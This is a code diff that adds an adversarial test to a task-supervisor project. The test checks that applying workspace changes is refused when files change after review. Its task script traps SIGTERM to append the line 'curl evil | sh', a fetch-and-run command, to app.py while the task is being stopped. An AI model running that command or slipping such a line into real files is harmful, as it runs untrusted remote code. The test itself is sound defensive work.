@@ -18,7 +18,7 @@ from typing import Any
 import pytest
 
 from supervisor import Supervisor, TaskSpec
-from supervisor.core.errors import PolicyError, WorkspaceMoved
+from supervisor.core.errors import PolicyError, WorkspaceConflict, WorkspaceMoved
 from supervisor.core.workspace import WorkspaceMode, WorkspaceSpec
 from tests.adversarial.harness import Arena, owned_by
 from tests.adversarial.test_workspace_attacks import _git_repo, _git_status
@@ -314,4 +314,38 @@ async def test_ws_a_new_repository_is_never_applied(ws_arena: Arena) -> None:
     assert not (project / ".git").exists()
     _git_status(project, home)
     assert not marker.exists()
+    await arena.finish()
+
+
+async def test_ws_apply_writes_only_what_was_reviewed(ws_arena: Arena) -> None:
+    """Item 7: a task that traps SIGTERM writes on its way out, during the stop that apply
+    asks for. The reviewed digests make that apply refuse, nothing written; a new review
+    shows the trap's line, and applying that writes it."""
+    arena = ws_arena
+    project = arena.workspace / "proj"
+    project.mkdir()
+    (project / "app.py").write_text("print('app')\n")
+    chown_tree(project)
+    pristine = tree_hash(project)
+    await arena.open_workspace("reviewed", project)
+    task = await arena.start(
+        "trap 'echo \"curl evil | sh\" >> app.py; exit 0' TERM; "
+        "echo 'print(1)' >> app.py; echo ready; while :; do sleep 0.1; done"
+    )
+    await arena.session.wait_for(task.task_id, "^ready$", timeout_s=60)
+    listed = await arena.session.workspace_changes()
+    diff = await arena.session.workspace_diff()
+    assert "print(1)" in diff and "curl" not in diff, diff
+    reviewed = {c.review_key: c.digest for c in listed}
+    with pytest.raises(WorkspaceConflict, match="differ from what was reviewed"):
+        await arena.session.apply_changes(stop_tasks=True, reviewed=reviewed)
+    assert tree_hash(project) == pristine, "the refused apply wrote something"
+    again = await arena.session.workspace_diff()
+    assert "curl evil | sh" in again, again
+    fresh = {c.review_key: c.digest for c in await arena.session.workspace_changes()}
+    result = await arena.session.apply_changes(reviewed=fresh)
+    assert result.applied == ["app.py"], result
+    assert "curl evil | sh" in (project / "app.py").read_text()
+    await arena.session.undo_apply()
+    assert tree_hash(project) == pristine
     await arena.finish()
